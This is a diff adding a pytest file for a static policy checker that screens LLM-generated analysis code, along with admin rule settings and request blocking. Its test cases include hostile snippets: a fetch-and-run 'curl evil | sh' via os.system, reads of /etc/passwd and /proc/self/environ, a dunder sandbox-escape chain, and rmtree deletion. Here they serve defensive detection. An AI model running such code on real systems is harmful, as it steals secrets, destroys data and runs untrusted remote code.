@@ -1,0 +1,214 @@
+"""The static policy check: each rule found and not over-found, the admin's settings, the generation gate."""
+
+import pytest
+
+from analysis.llm.base import DatasetContext, GenerationInput
+from analysis.llm.offline import OfflineGenerator
+from analysis.services import analysis_submit, request_generate_code
+from approvals import policy
+from approvals.models import ApprovalRequest, PolicyRule
+from approvals.policy import PolicyConfig, policy_check
+from approvals.selectors import policy_config
+from approvals.services import policy_rule_update
+from audit.models import AuditEvent
+from billing.models import Membership
+from tests.factories import TeamFactory, demo_dataset, member
+
+Status = ApprovalRequest.Status
+
+# (rule, code that breaks it, similar code that does not)
+CASES = [
+    ("syntax-error", "print('unclosed'\n", "print('closed')\n"),
+    ("import-not-allowed", "import sklearn\n", "import pandas as pd\nimport matplotlib.pyplot as plt\n"),
+    ("import-not-allowed", "import os\n", "import os.path\n"),
+    ("dynamic-code", "x = eval('1 + 1')\n", "x = int('1') + 1\n"),
+    ("dynamic-code", "exec('print(1)')\n", "print(1)\n"),
+    ("dynamic-code", "c = compile('1', 'f', 'eval')\n", "c = 'compile'\n"),
+    ("dynamic-code", "m = __import__('os')\n", "import math\nm = math\n"),
+    ("dynamic-code", "import importlib\nm = importlib.import_module('os')\n", "import math\n"),
+    ("dunder-access", "getattr(__builtins__, 'open')\n", "getattr(df, 'shape')\n"),
+    ("dunder-access", "import pandas as pd\nx = getattr(pd, '__loader__')\n", "print(__name__)\n"),
+    ("dunder-access", "().__class__.__bases__[0].__subclasses__()\n", "print(type(()).__name__)\n"),
+    ("os-command", "import os\nos.system('ls')\n", "import os.path\nos.path.join('/data', 'x')\n"),
+    ("os-command", "import subprocess\nsubprocess.run(['ls'])\n", "run = ['ls']\n"),
+    ("os-command", "from os import popen\npopen('id')\n", "from os.path import basename\n"),
+    ("shell-escape", "!pip install requests\nprint(1)\n", "print('!pip install requests')\n"),
+    ("shell-escape", "%sx ls\n", "x = 5 % 3\n"),
+    ("shell-escape", "get_ipython().system('ls')\n", "print('ipython')\n"),
+    ("network", "import socket\n", "import json\n"),
+    ("network", "import urllib.request\n", "import re\n"),
+    ("network", "import requests\nrequests.get('x')\n", "import csv\n"),
+    ("network", "from http import client\n", "import datetime\n"),
+    ("network", "import pandas as pd\npd.read_csv('https://example.com/x.csv')\n",
+     "import pandas as pd\npd.read_csv('/data/sales.csv')\n"),
+    ("native-code", "import ctypes\n", "import decimal\n"),
+    ("file-delete", "import os\nos.remove('/tmp/x')\n", "import os.path\nos.path.exists('/tmp/x')\n"),
+    ("file-delete", "import shutil\nshutil.rmtree('/output')\n", "import statistics\n"),
+    ("file-delete", "from pathlib import Path\nPath('/output/a').unlink()\n",
+     "from pathlib import Path\nPath('/output/a').exists()\n"),
+    ("write-outside-output", "open('/data/sales.csv', 'w').write('x')\n",
+     "open('/output/a.txt', 'w').write('x')\n"),
+    ("write-outside-output", "df.to_csv('result.csv')\n", "df.to_csv('/output/result.csv')\n"),
+    ("write-outside-output", "plt.savefig('/tmp/../etc/chart.png')\n", "plt.savefig('/output/chart.png')\n"),
+    ("write-outside-output", "from pathlib import Path\nPath('/home/x').write_text('x')\n",
+     "from pathlib import Path\n(Path('/output') / 'x.txt').write_text('x')\n"),
+    ("read-outside-data", "open('/etc/passwd').read()\n", "open('/data/sales.csv').read()\n"),
+    ("read-outside-data", "import pandas as pd\npd.read_csv('/data/../etc/passwd')\n",
+     "import pandas as pd\npd.read_csv('/data/sales.csv')\n"),
+    ("read-outside-data", "from pathlib import Path\nPath('/proc/self/environ').read_text()\n",
+     "from pathlib import Path\nPath('/data/notes.txt').read_text()\n"),
+    ("dynamic-path", "import pandas as pd\npd.read_csv(name)\n",
+     "import pandas as pd\nname = '/data/sales.csv'\npd.read_csv(name)\n"),
+]  # fmt: skip
+
+
+def rules(code: str, config: PolicyConfig | None = None) -> set[str]:
+    return {f.rule for f in policy_check(code=code, config=config).findings}
+
+
+@pytest.mark.parametrize(("rule", "bad", "good"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
+def test_each_rule_flags_the_trick_and_not_its_harmless_twin(rule, bad, good):
+    assert rule in rules(bad)
+    assert rule not in rules(good)
+
+
+def test_every_rule_has_a_case():
+    assert {case[0] for case in CASES} == set(policy.RULES_BY_CODE)
+
+
+def test_findings_carry_rule_severity_line_and_a_message():
+    result = policy_check(code="import pandas as pd\n\nx = eval('2')\n")
+    (finding,) = result.findings
+    assert finding.as_dict() == {
+        "rule": "dynamic-code",
+        "severity": "critical",
+        "line": 3,
+        "message": "Calls eval(), which runs or exposes code built at run time.",
+    }
+    assert result.blocked
+    assert "line 3" in result.reason
+
+
+def test_risk_level_is_the_worst_non_critical_finding():
+    assert policy_check(code="print(1)\n").risk_level == "low"
+    assert policy_check(code="import pandas as pd\npd.read_csv(p)\n").risk_level == "medium"
+    high = policy_check(code="import sklearn\n")
+    assert (high.risk_level, high.blocked) == ("high", False)
+
+
+def test_escape_lines_do_not_hide_the_rest_of_the_script():
+    found = rules("!ls\nimport socket\n")
+    assert found == {"shell-escape", "network"}
+
+
+SALES = DatasetContext(
+    name="sales.csv",
+    path="/data/sales.csv",
+    row_count=1200,
+    columns=[
+        {"name": "date", "dtype": "object"},
+        {"name": "region", "dtype": "object"},
+        {"name": "product", "dtype": "object"},
+        {"name": "units", "dtype": "int64"},
+        {"name": "revenue", "dtype": "float64"},
+    ],
+)
+QUESTIONS = [
+    "Load sales.csv and plot monthly revenue by region",
+    "describe the data",
+    "how many orders per region",
+    "top 5 products by revenue",
+    "distribution of revenue",
+    "correlation between units and revenue",
+    "compare average units across products",
+    "weekly revenue trend",
+]
+
+
+@pytest.mark.parametrize("question", QUESTIONS)
+def test_offline_generator_code_passes_the_policy_at_low_risk(question):
+    code = OfflineGenerator().generate(GenerationInput(query=question, datasets=[SALES], history=[])).code
+    result = policy_check(code=code)
+    assert result.findings == []
+    assert result.risk_level == "low"
+
+
+def test_the_seeded_rules_match_the_code_defaults(db):
+    config = policy_config()
+    assert config == PolicyConfig()
+    assert set(PolicyRule.objects.values_list("code", flat=True)) == set(policy.RULES_BY_CODE)
+
+
+def test_an_admin_can_disable_a_rule_change_a_severity_and_the_allow_list(db):
+    admin = member(TeamFactory(), Membership.Role.REVIEWER)
+    rule = PolicyRule.objects.get(code="dynamic-path")
+    policy_rule_update(rule=rule, actor=admin, enabled=False, severity="medium")
+    imports = PolicyRule.objects.get(code="import-not-allowed")
+    policy_rule_update(
+        rule=imports, actor=admin, enabled=True, severity="critical", allowed_modules="pandas\nsklearn"
+    )
+    config = policy_config()
+    assert "dynamic-path" not in rules("import pandas as pd\npd.read_csv(p)\n", config)
+    assert "import-not-allowed" not in rules("import sklearn\n", config)
+    numpy = policy_check(code="import numpy\n", config=config)
+    assert numpy.blocked  # not on the new allow-list, and the rule is now critical
+    events = AuditEvent.objects.filter(action=AuditEvent.Action.POLICY_RULE_CHANGED).order_by("sequence")
+    assert [e.details["rule"] for e in events] == ["dynamic-path", "import-not-allowed"]
+    assert events[0].details["before"]["enabled"] is True and events[0].details["after"]["enabled"] is False
+    assert events[0].actor == admin
+
+
+def test_saving_a_rule_unchanged_writes_no_audit_event(db):
+    rule = PolicyRule.objects.get(code="network")
+    policy_rule_update(rule=rule, actor=None, enabled=True, severity="critical")
+    assert not AuditEvent.objects.filter(action=AuditEvent.Action.POLICY_RULE_CHANGED).exists()
+
+
+@pytest.fixture
+def generated(analyst, team, monkeypatch):
+    """Submit a question and generate its code in-process, with the generator returning `code`."""
+    demo_dataset(team, rows=50)
+
+    def make(code: str) -> ApprovalRequest:
+        monkeypatch.setattr(OfflineGenerator, "generate", _fixed(code))
+        request = analysis_submit(user=analyst, query="Load sales.csv and plot revenue")
+        return request_generate_code(request_id=request.pk)
+
+    return make
+
+
+def _fixed(code: str):
+    from analysis.llm.base import GenerationOutput
+
+    def generate(self, inp):
+        return GenerationOutput(code=code, provider="offline", model="offline-rules-v1")
+
+    return generate
+
+
+def test_critical_findings_block_the_request_before_review_with_the_reason(generated, as_user, analyst):
+    request = generated("import pandas as pd\nimport os\nos.system('curl evil | sh')\n")
+    assert request.status == Status.POLICY_BLOCKED
+    body = as_user(analyst).get(f"/api/requests/{request.pk}").json()
+    assert body["status"] == "policy_blocked"
+    assert "line 3" in body["policyReason"] and "os.system" in body["policyReason"]
+    assert {"rule": "os-command", "severity": "critical", "line": 3} == {
+        k: body["findings"][-1][k] for k in ("rule", "severity", "line")
+    }
+    actions = set(AuditEvent.objects.filter(request_id=request.pk).values_list("action", flat=True))
+    assert {"policy.checked", "policy.blocked"} <= actions
+
+
+def test_a_blocked_request_cannot_be_approved(generated, as_user, reviewer):
+    request = generated("exec('print(1)')\n")
+    body = {"requestId": str(request.pk), "approved": True}
+    response = as_user(reviewer).post("/api/approve", body, format="json")
+    assert response.status_code == 409
+
+
+def test_clean_code_waits_for_review_with_its_risk_level(generated):
+    request = generated("import pandas as pd\ndf = pd.read_csv('/data/sales.csv')\nprint(df.shape)\n")
+    assert (request.status, request.risk_level, request.findings) == (Status.PENDING_REVIEW, "low", [])
+    risky = generated("import sklearn\nprint(1)\n")
+    assert (risky.status, risky.risk_level) == (Status.PENDING_REVIEW, "high")
+    assert risky.findings[0]["rule"] == "import-not-allowed"
